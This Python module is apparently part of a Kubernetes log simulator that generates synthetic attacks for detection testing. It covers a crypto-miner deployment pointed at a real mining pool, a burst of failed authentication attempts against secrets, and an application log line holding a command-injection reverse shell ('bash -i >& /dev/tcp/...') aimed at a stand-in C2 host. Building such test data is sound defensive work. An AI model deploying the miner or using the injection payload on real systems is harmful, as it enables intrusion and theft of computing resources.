"""Attack scenarios that also show outside the audit log: a crypto-miner pod's output, the API
server's log of failed authentications, a reverse shell in an application's log."""

from __future__ import annotations

from collections.abc import Callable

from kubetrail.simulate.attacks import BOB, BOB_IP, C2, Planner
from kubetrail.simulate.attacks_api import _EDIT, _KUBECTL_NEW
from kubetrail.simulate.cluster import add_attack_container, pod_suffix
from kubetrail.simulate.timefmt import NS, micro_time

__all__ = ["SCENARIOS"]


def scenario_a08(p: Planner) -> None:
    """A08: Crypto-miner deployment, and its container's output."""
    cluster = p.cluster
    rng = p.rng
    at = p.at
    t0 = p.t0
    span = p.span
    workers = p.workers
    ev = p.ev
    line = p.line
    t = at[7]
    node = workers[0]
    dep = "kube-metrics-agent"
    mpod = f"{dep}-{pod_suffix(rng, 10)}-{pod_suffix(rng, 5)}"
    delay = min(12 * NS, span // 50)  # image pull and start; short attack windows (live mode) shrink it
    start_frac = (t + delay - t0) / span
    miner = add_attack_container(
        cluster, rng, node, "default", mpod, "xmrig", "miner", "xmrig/xmrig:latest", 0.4, start_frac
    )
    a = p.attack("A08", t, node=node.name, ns="default", pod=mpod)
    a.streams.append(miner.stream)
    body = {
        "kind": "Deployment",
        "apiVersion": "apps/v1",
        "metadata": {"name": dep, "namespace": "default"},
        "spec": {
            "replicas": 1,
            "template": {
                "spec": {
                    "containers": [
                        {
                            "name": "xmrig",
                            "image": "xmrig/xmrig:latest",
                            "args": [
                                "-o",
                                "stratum+tcp://pool.supportxmr.com:3333",
                                "-u",
                                "44AFFq5kSiGBoZ...",
                                "--donate-level",
                                "0",
                            ],
                            "resources": {"limits": {"cpu": "2"}},
                        }
                    ]
                }
            },
        },
    }
    ev(
        "A08",
        ts_ns=t,
        verb="create",
        resource="deployments",
        group="apps",
        namespace="default",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=body,
        annotations=_EDIT,
    )
    ms = t + delay
    stamp = f"[{micro_time(ms + 3_000_000)[:-4].replace('T', ' ')}]"
    for k, msg in enumerate(
        (
            " * ABOUT        XMRig/6.22.2 gcc/13.2.1 (built for Linux x86-64, 64 bit)",
            " * POOL #1      stratum+tcp://pool.supportxmr.com:3333 algo auto",
            f"{stamp}  net      use pool pool.supportxmr.com:3333  104.243.33.118",
            f"{stamp}  net      new job from pool.supportxmr.com:3333 diff 120001 algo rx/0 height 3312345",
        )
    ):
        line(miner.stream, ms + k * 1_000_000, msg, "A08")


def scenario_a11(p: Planner) -> None:
    """A11: A burst of 401 and 403 from one source; the API server also logs the failed authentications."""
    cluster = p.cluster
    at = p.at
    ev = p.ev
    line = p.line
    t = at[10]
    burst_ip = "203.0.113.99"
    p.attack("A11", t, user="", ip=burst_ip)
    apiserver = cluster.find("kube-system", "kube-apiserver")
    for k in range(40):
        tk = t + k * NS // 2
        if k % 3 != 2:
            ev(
                "A11",
                ts_ns=tk,
                verb="list",
                resource="secrets",
                user={},
                source_ips=[burst_ip],
                user_agent="Go-http-client/1.1",
                code=401,
                stage="ResponseStarted",
                uri="/api/v1/secrets",
                fail_message="Authentication failed, attempted: bearer",
            )
            hdr = f"E{_klog_time(tk)}       1 authentication.go:73] "
            line(
                apiserver.stream,
                tk + 100_000,
                hdr + '"Unable to authenticate the request" err="[invalid bearer token, '
                'service account token has been invalidated]"',
                "A11",
                stderr=True,
            )
        else:
            ev(
                "A11",
                ts_ns=tk,
                verb="list",
                resource="secrets",
                namespace="kube-system",
                user={"username": "system:anonymous", "groups": ["system:unauthenticated"]},
                source_ips=[burst_ip],
                user_agent="Go-http-client/1.1",
                code=403,
                annotations={"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""},
                fail_message=(
                    'secrets is forbidden: User "system:anonymous" cannot list '
                    'resource "secrets" in API group "" in the namespace "kube-system"'
                ),
            )


def scenario_a14(p: Planner) -> None:
    """A14: Reverse shell in an application container."""
    cluster = p.cluster
    t0 = p.t0
    span = p.span
    line = p.line
    pay = cluster.find("payments", "payments-api")
    t = t0 + int(0.9 * span)
    p.attack("A14", t, node=pay.node.name, ns="payments", pod=pay.pod, user="", ip=C2)
    line(
        pay.stream,
        t,
        f'time={micro_time(t)[:-4]}Z level=warning logger=payments.api msg="webhook callback" '
        f"url=\"http://x;bash -c 'bash -i >& /dev/tcp/{C2}/4444 0>&1'\" status=500",
        "A14",
    )
    line(
        pay.stream,
        t + 40_000_000,
        "bash: cannot set terminal process group (1): Inappropriate ioctl for device",
        "A14",
        stderr=True,
    )
    line(pay.stream, t + 41_000_000, "bash: no job control in this shell", "A14", stderr=True)


def _klog_time(ts_ns: int) -> str:
    import time as _time

    secs = ts_ns // NS
    return _time.strftime("%m%d %H:%M:%S", _time.gmtime(secs)) + f".{(ts_ns - secs * NS) // 1000:06d}"


SCENARIOS: list[Callable[[Planner], None]] = [scenario_a08, scenario_a11, scenario_a14]
